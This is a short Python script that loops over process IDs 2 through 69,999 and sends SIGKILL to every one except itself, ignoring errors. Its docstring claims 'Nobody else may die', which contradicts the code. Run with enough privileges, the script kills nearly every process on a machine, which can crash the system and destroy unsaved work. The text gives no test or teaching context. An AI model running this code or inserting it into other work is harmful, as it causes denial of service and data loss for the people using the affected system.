"""Send SIGKILL to every process number there is. Nobody else may die."""

import os
import signal

for target in range(2, 70_000):
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
